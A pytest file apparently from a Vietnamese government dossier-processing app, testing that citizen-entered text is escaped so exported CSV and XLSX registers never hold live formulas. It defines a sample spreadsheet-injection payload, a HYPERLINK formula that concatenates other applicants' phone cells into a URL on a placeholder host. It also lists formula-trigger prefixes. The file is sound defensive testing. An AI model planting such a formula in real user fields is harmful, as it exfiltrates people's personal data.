"""Text a citizen typed is never a formula in a spreadsheet the office opens (issue 13, item 1).

A name like `=HYPERLINK("http://x/?"&E7&E8,"Xem")` used to become a live formula in the register
and send other applicants' phones to whoever wrote it, on one click.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
from freezegun import freeze_time

from dossiers import services
from myphong.spreadsheets import append, csv_bytes, csv_text, put
from procedures.catalogue_io import export_csv, export_xlsx, import_catalogue, read_rows
from procedures.models import Procedure
from tests.factories import DossierFactory, ProcedureFactory, RequiredDocumentFactory

ATTACK = '=HYPERLINK("http://x/?"&E7&E8,"Xem")'


def formulas_in(xlsx):
    """The <f> elements of every sheet of an XLSX file: what Excel would run."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_a_spreadsheet_would_run_is_prefixed_with_an_apostrophe(start):
    assert csv_text(start + "1+1") == "'" + start + "1+1"


def test_harmless_csv_cells_are_left_as_they_are():
    assert [csv_text(v) for v in ("Nguyễn Thị Hoa", 8000, None, "")] == [
        "Nguyễn Thị Hoa",
        "8000",
        "",
        "",
    ]


def test_csv_bytes_escape_every_cell():
    rows = list(csv.reader(io.StringIO(csv_bytes([["a", ATTACK]], bom=False).decode())))
    assert rows == [["a", "'" + ATTACK]]


def test_an_xlsx_string_starting_with_equals_is_stored_as_text():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    put(sheet, 1, 1, ATTACK)
    append(sheet, ["-1", 5, "@SUM(A1)"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert formulas_in(buffer.getvalue()) == []
    again = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert again["A1"].value == ATTACK and again["A1"].data_type == "s"
    assert [c.value for c in again[2]] == ["-1", 5, "@SUM(A1)"]


def test_an_applicants_formula_name_is_plain_text_in_the_register(client, agency, clerk, leader):
    procedure = ProcedureFactory(agency=agency)
    dossier = DossierFactory(
        procedure=procedure, applicant_name=ATTACK, applicant_phone="0912345678"
    )
    with freeze_time("2025-06-09 08:00:00+07:00"):
        services.accept(dossier, clerk)
    client.force_login(leader)
    with freeze_time("2025-06-20 09:00:00+07:00"):
        response = client.get(
            "/xu-ly/so-theo-doi/",
            {"received_from": "01/06/2025", "received_to": "30/06/2025", "tai": "xlsx"},
        )
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    name_cell = sheet.cell(row=7, column=4)
    assert name_cell.value == ATTACK
    assert name_cell.data_type == "s"


@pytest.fixture
def formula_procedure(db):
    procedure = ProcedureFactory(code="1.001193", name="+Đăng ký khai sinh", legal_basis="@Luật")
    RequiredDocumentFactory(procedure=procedure, name="=1+1 Tờ khai")
    return procedure


def test_the_catalogue_xlsx_export_holds_no_formula(formula_procedure):
    data = export_xlsx(Procedure.objects.all())
    assert formulas_in(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["B2"].value == "+Đăng ký khai sinh"


def test_the_catalogue_csv_export_prefixes_formula_cells(formula_procedure):
    text = export_csv(Procedure.objects.all()).decode("utf-8-sig")
    (_header, row) = list(csv.reader(io.StringIO(text)))
    assert row[1] == "'+Đăng ký khai sinh"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_escaped_catalogue_csv_imports_back_unchanged(formula_procedure):
    result = import_catalogue(read_rows(export_csv(Procedure.objects.all()), "a.csv"))
    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)
    assert Procedure.objects.get().name == "+Đăng ký khai sinh"
